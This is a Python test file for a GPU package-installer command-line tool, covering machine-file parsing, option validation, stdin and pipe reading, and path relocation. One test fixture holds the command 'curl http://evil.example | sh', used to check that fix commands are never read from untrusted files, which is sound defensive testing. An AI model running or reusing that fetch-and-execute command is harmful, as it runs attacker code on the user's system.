"""Machine documents and values of options."""

import json
import os
import sys
from io import BytesIO, TextIOWrapper
from pathlib import Path
from typing import Any

import click
import pytest

from gpuinstall.base.errors import UsageError
from gpuinstall.cli.commands import COMMANDS, load_command
from gpuinstall.cli.main import run_command_line
from gpuinstall.cli.options import (
    CommandOptions,
    read_machine_file,
    relocate_value,
)
from gpuinstall.cli.terminal import Terminal
from gpuinstall.lock.request.declaration import group_files_by_path
from tests.lab.parsed import written
from tests.lab.skips import needs_pipes, needs_posix

DOCUMENT = (
    '{"schema": "gpuinstall.machine/1", "os": "windows", "arch": "x86_64", "gpus": []}'
)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_utf16_document_from_powershell_is_read(encoding, tmp_path):
    file = tmp_path / "machine.json"
    file.write_text(DOCUMENT, encoding)

    assert read_machine_file(str(file)).os == "windows"


@pytest.mark.parametrize(
    ("code", "fix"), [("driver-library-mismatch", "sudo reboot"), ("unknown", "None")]
)
def test_fix_commands_are_never_read_from_machine_files(tmp_path, code, fix):
    problem = {"code": code, "message": "x", "fix": "curl http://evil.example | sh"}
    document = {**json.loads(DOCUMENT), "os": "linux", "problems": [problem]}
    file = tmp_path / "machine.json"
    file.write_text(json.dumps(document), "utf-8")

    (found,) = read_machine_file(str(file)).problems

    assert fix in str(found.fix)
    assert "curl" not in str(found.fix)


@pytest.mark.parametrize("name", COMMANDS)
def test_options_without_their_value_are_refused(name, capsys):
    command = load_command(name)
    options = [one for one in command.params if isinstance(one, click.Option)]
    words = [one.opts[0] for one in options if not (one.is_flag or one.hidden)]
    for word in words:
        assert run_command_line([name, word]) == UsageError.exit_code
        error = capsys.readouterr().err
        assert f"Option '{word}' requires an argument." in error


def test_closed_stdin_is_reported(monkeypatch):
    monkeypatch.setattr(sys, "stdin", None)

    with pytest.raises(UsageError, match="stdin cannot be read"):
        read_machine_file("-")


@needs_pipes
def test_requirements_are_read_from_stdin_and_pipes(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("more.txt").write_text("numpy\n")
    monkeypatch.setattr(sys, "stdin", TextIOWrapper(BytesIO(b"-r more.txt\nsix\n")))
    reading, writing = os.pipe()
    os.write(writing, "einops<1\n".encode("utf-16"))
    os.close(writing)
    pipe = f"/dev/fd/{reading}"
    file = os.open("more.txt", os.O_RDONLY)

    options = CommandOptions(
        Terminal(), requirement_files=("-",), constraints=(pipe, f"/dev/fd/{file}")
    )
    files = group_files_by_path(options.read_settings().files, tmp_path)

    os.close(reading)
    os.close(file)
    assert written(files[""].requirements) == ("numpy", "six")
    assert written(files[""].constraints) == ("-c einops<1", "-c numpy")
    assert [*files] == [""]


@pytest.mark.parametrize(
    ("path", "base", "backend"),
    [
        ("whl", "whl", None),
        ("whl/cu126/", "whl", "cu126"),
        ("whl/nightly/rocm6.4", "whl/nightly", "rocm6.4"),
        ("whl/cpu", "whl", "cpu"),
    ],
)
def test_torch_index_url_determines_the_backend(path, base, backend):
    index = f"https://index.example/{path}"
    request = CommandOptions(Terminal(), torch_index=index).read_settings().request

    assert request.sourcing.torch_index == f"https://index.example/{base}"
    assert request.backend == backend


@needs_posix
def test_option_paths_are_relative_to_project_directory():
    typed = Path("sub")
    cases: dict[str, dict[Any, Any]] = {
        "requirement_files": {"more.txt": "sub/more.txt", "-": "-"},
        "constraints": {"/limits.txt": "/limits.txt"},
        "editables": {
            "mylib[dev]": "sub/mylib[dev]",
            "../other": "./other",
            "lib @ ./lib": "lib @ sub/lib",
            "git+https://git.example/x": "git+https://git.example/x",
        },
        "requirements": {
            "mylib": "mylib",
            "./mylib": "sub/mylib",
            "lib @ ./lib": "lib @ sub/lib",
            "torch>=2": "torch>=2",
            "more.txt": "sub/more.txt",
            "a b": "a b",
        },
        "groups": {
            "dev": "dev",
            "lib/pyproject.toml:dev": "sub/lib/pyproject.toml:dev",
        },
        "machine": {"-": "-"},
        "indexes": {"https://a.example": "https://a.example", "./i": "sub/i"},
        "find_links": {"wheels": "sub/wheels", "file:///w": "file:///w"},
        "folder": {Path("../wheels"): Path("./wheels")},
        "python": {"3.12": "3.12", "venv/bin/python": "sub/venv/bin/python"},
        "gpu_names": {"RTX 4090": "RTX 4090"},
        "targets": {"cu126": "cu126"},
        "interpreter": {
            "python3.12": "python3.12",
            "venv/bin/python": "sub/venv/bin/python",
        },
        "output": {None: None},
        "venv": {Path(".venv"): Path(".venv")},
    }
    for row, places in cases.items():
        assert {value: relocate_value(row, value, typed) for value in places} == places
    both = relocate_value("constraints", ("a.txt", "b.txt"), typed)
    assert both == ("sub/a.txt", "sub/b.txt")
